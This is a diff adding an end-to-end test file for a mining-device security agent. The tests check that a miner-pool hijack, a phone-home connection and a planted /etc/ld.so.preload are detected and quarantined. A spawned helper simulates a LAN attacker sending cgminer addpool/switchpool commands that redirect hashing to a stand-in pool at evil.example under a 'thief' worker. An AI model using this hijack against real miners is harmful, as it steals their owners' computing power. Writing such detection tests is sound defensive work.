@@ -1,0 +1,156 @@
+/**
+ * Miner guards end to end: the real plane (pool policy and indicators through its API, delivered as signed
+ * set-policy commands), the compiled agent on a simulated board, and a simulated miner speaking the real cgminer
+ * protocol. The attacker is another process on the "LAN" using addpool/switchpool; the plane quarantines by
+ * policy. A second board stages a phone-home connection and /etc/ld.so.preload, and a malformed miner answer.
+ */
+import { execFileSync, spawn } from "node:child_process";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createSimulatedBoard } from "../../agent/src/platform/index.js";
+import { CLEAN_SOCKETS, SimMiner, writeSimulatedSockets } from "../../agent/src/sim-miner/index.js";
+import { ApiClient } from "../support/api.js";
+import { loadDeviceKey } from "../support/device-key.js";
+import { AGENT_BINARY, startAgent, startControlPlane, tempDir, writeAgentConfig, type ControlPlane, type ManagedProcess } from "../support/processes.js";
+import { waitFor } from "../support/wait.js";
+
+const MODEL = "S19";
+const FIRMWARE = "2024.06.1";
+const GOOD_POOL = "stratum+tcp://pool.example.net:3333";
+
+let plane: ControlPlane;
+let admin: ApiClient;
+const agents: ManagedProcess[] = [];
+const miners: SimMiner[] = [];
+
+interface Board {
+  root: string;
+  stateDir: string;
+  miner: SimMiner;
+  proc: ManagedProcess;
+  id: string;
+}
+
+async function startBoard(name: string, extra: Record<string, unknown> = {}): Promise<Board> {
+  const dir = tempDir(name);
+  const root = join(dir, "board");
+  createSimulatedBoard(root, { model: MODEL, firmwareVersion: FIRMWARE });
+  const miner = new SimMiner({ root });
+  miners.push(miner);
+  const port = await miner.start();
+  const stateDir = join(dir, "state");
+  const token = await admin.post("/api/v1/enrollment-tokens", { ttlMs: 600_000, maxUses: 1, label: name });
+  const configFile = writeAgentConfig(dir, {
+    controlPlaneUrl: plane.httpUrl,
+    mqttUrl: plane.mqttUrl,
+    stateDir,
+    model: MODEL,
+    firmwareVersion: FIRMWARE,
+    enrollmentToken: token.token,
+    platform: { kind: "simulated", root },
+    measure: { paths: ["/firmware"] },
+    heartbeatIntervalMs: 500,
+    attestIntervalMs: 600_000,
+    enrollPollMs: 300,
+    reconnectMinMs: 100,
+    reconnectMaxMs: 1000,
+    guards: { intervalMs: 1000, minerApi: { host: "127.0.0.1", port } },
+    ...extra,
+  });
+  if (!referenceRegistered) {
+    const measured = JSON.parse(execFileSync(AGENT_BINARY, ["measure", "--config", configFile], { encoding: "utf8" }));
+    await admin.post("/api/v1/reference-values", { model: MODEL, firmwareVersion: FIRMWARE, measurements: measured });
+    referenceRegistered = true;
+  }
+  const proc = startAgent(name, configFile);
+  agents.push(proc);
+  const id = await waitFor(`${name}'s key`, () => loadDeviceKey(stateDir)?.deviceId);
+  await waitFor(`${name} trusted`, async () => (await admin.get(`/api/v1/devices/${id}`).catch(() => undefined))?.appraisal === "trusted");
+  await waitFor(`${name} applied the signed policy`, () => existsSync(join(stateDir, "policy.json")));
+  return { root, stateDir, miner, proc, id };
+}
+let referenceRegistered = false;
+
+/** addpool + switchpool from another process over the real protocol (an attacker on the LAN). */
+function hijackFromAnotherProcess(port: number): Promise<void> {
+  const script = `
+    const net = require("node:net");
+    const send = (req) => new Promise((resolve, reject) => {
+      const s = net.connect(${port}, "127.0.0.1", () => s.end(JSON.stringify(req)));
+      s.on("data", () => {}); s.on("close", resolve); s.on("error", reject);
+    });
+    (async () => {
+      await send({ command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" });
+      await send({ command: "switchpool", parameter: "1" });
+    })();
+  `;
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, ["-e", script], { stdio: "ignore" });
+    child.on("error", reject);
+    child.on("exit", (code) => (code === 0 ? resolve() : reject(new Error(`attacker exited ${code}`))));
+  });
+}
+
+const events = async (id: string) => (await admin.get(`/api/v1/devices/${id}/events`)).events as any[];
+const guardAlerts = async (id: string) => (await events(id)).filter((e) => e.kind === "guard-alert");
+
+beforeAll(async () => {
+  plane = await startControlPlane();
+  admin = new ApiClient(plane.httpUrl, plane.adminToken);
+  await admin.ok("PUT", "/api/v1/policies/pools", { allowedUrls: [GOOD_POOL], workerPatterns: ["^farm\\.worker\\d+$"] });
+  await admin.ok("PUT", "/api/v1/policies/indicators", {
+    indicators: [{ id: "antbuild-preload", kind: "file-present", path: "/etc/ld.so.preload", severity: "critical", description: "Antbuild malware: /etc/ld.so.preload" }],
+  });
+}, 120_000);
+
+afterAll(async () => {
+  await Promise.all(agents.map((a) => a.kill("SIGKILL")));
+  await Promise.all(miners.map((m) => m.close()));
+  await plane?.proc.kill("SIGKILL");
+});
+
+describe("miner guards (real plane, compiled agent, simulated miner)", () => {
+  it("addpool + switchpool from another process: guard-alert, contraindicated, quarantined by policy", async () => {
+    const board = await startBoard("guard-hijack");
+    expect(await guardAlerts(board.id)).toEqual([]);
+    // Heartbeats carry the miner's telemetry (summary, stats, pools).
+    const telemetry = await waitFor("telemetry in heartbeats", async () => (await admin.get(`/api/v1/devices/${board.id}`)).telemetry ?? undefined);
+    expect(telemetry).toMatchObject({ hashrateGhs: 13512.34, activePool: GOOD_POOL, fanRpm: [5400, 5460, 5520, 5580] });
+    await hijackFromAnotherProcess(board.miner.port);
+    const view = await waitFor("device quarantined by policy", async () => {
+      const d = await admin.get(`/api/v1/devices/${board.id}`);
+      return d.containment === "quarantined" && d;
+    });
+    expect(view.appraisal).toBe("contraindicated");
+    const alerts = await guardAlerts(board.id);
+    expect(alerts.map((e) => e.detail)).toContainEqual(expect.objectContaining({ guard: "pool-live", subject: "stratum+tcp://evil.example:3333", tier: "contraindicated" }));
+    expect(readFileSync(join(board.root, "run/miner.state"), "utf8").trim()).toBe("stopped");
+  }, 120_000);
+
+  it("a phone-home connection, /etc/ld.so.preload and a malformed miner answer are reported (with evidence), each once", async () => {
+    const board = await startBoard("guard-indicators", { logLevel: "debug" });
+    writeSimulatedSockets(board.root, { v4: [...CLEAN_SOCKETS, { local: "192.168.1.20:40003", remote: "203.0.113.66:7000", state: "ESTABLISHED" }] });
+    writeFileSync(join(board.root, "etc/ld.so.preload"), "/usr/lib/libsys.so\n");
+    board.miner.fault = "malformed";
+    const alerts = await waitFor("three guard alerts", async () => {
+      const list = await guardAlerts(board.id);
+      return list.length >= 3 && list;
+    });
+    expect(alerts.map((e) => `${e.detail.guard} ${e.detail.subject}`).sort()).toEqual([
+      "connection 203.0.113.66:7000",
+      "indicator /etc/ld.so.preload",
+      `miner-api 127.0.0.1:${board.miner.port}`,
+    ]);
+    const view = await waitFor("contraindicated by the findings", async () => {
+      const d = await admin.get(`/api/v1/devices/${board.id}`);
+      return d.appraisal === "contraindicated" && d;
+    });
+    expect(JSON.stringify(view.lastAppraisal)).toContain("203.0.113.66:7000");
+    // Three more guard cycles on the unchanged board (debug log line per cycle): still exactly three alerts.
+    const cycles = () => board.proc.lines.filter((l) => l.msg === "guard cycle").length;
+    const seen = cycles();
+    await waitFor("three more guard cycles", () => cycles() >= seen + 3);
+    expect(await guardAlerts(board.id)).toHaveLength(3);
+  }, 120_000);
+});
